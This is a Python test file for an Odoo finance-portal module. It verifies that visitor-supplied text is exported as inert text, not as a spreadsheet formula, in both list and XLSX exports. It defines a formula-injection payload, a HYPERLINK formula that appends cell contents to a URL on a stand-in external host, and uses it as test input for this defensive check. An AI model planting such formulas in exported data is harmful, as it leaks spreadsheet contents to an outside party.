"""What visitors send is no formula in what staff export with Odoo's own dialog."""

import io
import json
import zipfile
from urllib.parse import quote

from odoo import fields
from odoo.tests import tagged

from .http_common import FinancePortalHttpCase

MIXIN = "finance.portal.system.record.mixin"
FORMULA = '=HYPERLINK("https://x.example.com?"&A1)'


@tagged("post_install", "-at_install")
class TestExports(FinancePortalHttpCase):
    def list_texts(self):
        """Return ``{model: field}``: a text of each model whose rows the system writes.

        None of those that nobody may read.
        """
        kind = self.registry[MIXIN]
        return {
            name: field.name
            for name, model in self.registry.items()
            if issubclass(model, kind) and not model._abstract
            for field in model._fields.values()
            if field.type in ("char", "text") and field.store and not field.compute
            if field.groups != fields.NO_ACCESS
        }

    def test_no_text_in_a_row_of_the_system_is_a_formula(self):
        found = self.list_texts()
        known = ("event", "decision", "link", "enabling.line", "batch.line")
        self.assertLessEqual({f"finance.portal.{name}" for name in known}, found.keys())
        for name, text in found.items():
            with self.subTest(name, text=text):
                row = self.env[name].new({text: FORMULA})
                self.assertEqual(row._export_rows([[text]]), [[f"'{FORMULA}"]])

    def test_a_formula_in_braces_is_none_either(self):
        row = self.Event.new({"agent": "{=A1}"})
        self.assertEqual(row._export_rows([["agent"]]), [["'{=A1}"]])

    def test_nor_is_one_in_a_record_of_odoo(self):
        kind = self.registry["finance.portal.export.mixin"]
        found = {
            (name, text)
            for name, model in self.registry.items()
            if issubclass(model, kind) and not issubclass(model, self.registry[MIXIN])
            if not model._abstract
            for text in self.env[name]._finance_portal_get_visitor_fields()
        }
        self.assertIn(("sale.order", "signed_by"), found)
        for name, text in found:
            with self.subTest(name, text=text):
                row = self.env[name].new({text: FORMULA, "name": "=1+1"})
                rows = row._export_rows([[text], ["name"]])
                self.assertEqual(rows, [[f"'{FORMULA}", "=1+1"]], "nothing else changes")

    def test_nor_where_it_is_exported_with_another_record(self):
        order = self.env["sale.order"].new({"signed_by": FORMULA})
        line = self.env["sale.order.line"].new({"order_id": order})
        self.assertEqual(line._export_rows([["order_id", "signed_by"]]), [[f"'{FORMULA}"]])

    def test_other_values_stay(self):
        event = self.Event.new({"agent": "Safari, =1", "company_id": self.company.id})
        rows = event._export_rows([["agent"], ["company_id", ".id"], ["visit"]])
        self.assertEqual(rows, [["Safari, =1", str(self.company.id), ""]])

    def test_an_excel_file_has_the_name_of_a_browser_as_a_text(self):
        _link, token = self.issue()
        self.open_link(token, agent=FORMULA)
        events = self.Event.search([("agent", "=", FORMULA)])
        self.assertTrue(events)
        groups = ("account.group_account_invoice", "base.group_allow_export")
        self.make_user("reader", *groups, password="reader!!!")
        self.authenticate("reader", "reader!!!")
        data = {
            "model": events._name,
            "fields": [{"name": "agent", "label": "Browser", "type": "char"}],
            "ids": events.ids,
            "domain": [],
            "import_compat": False,
        }
        answer = self.visit(f"/web/export/xlsx?data={quote(json.dumps(data))}")
        with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
            sheet = book.read("xl/worksheets/sheet1.xml").decode()
            texts = book.read("xl/sharedStrings.xml").decode()
        self.assertNotIn("<f>", sheet)
        self.assertIn("'=HYPERLINK(", texts)
